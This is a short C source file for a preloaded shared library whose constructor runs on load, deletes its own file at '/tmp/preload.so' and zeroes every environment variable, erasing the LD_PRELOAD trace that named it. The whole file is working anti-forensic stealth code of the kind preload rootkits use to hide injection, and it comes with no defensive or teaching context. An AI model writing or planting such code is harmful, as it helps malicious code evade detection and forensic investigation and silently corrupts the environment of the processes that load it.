/* A library that is loaded before all others, wipes how it was named, and removes itself. */
#include <string.h>
#include <unistd.h>

extern char **environ;

__attribute__((constructor)) static void hide(void)
{
    unlink("/tmp/preload.so");
    for (char **one = environ; *one; one++)
        memset(*one, 0, strlen(*one));
}
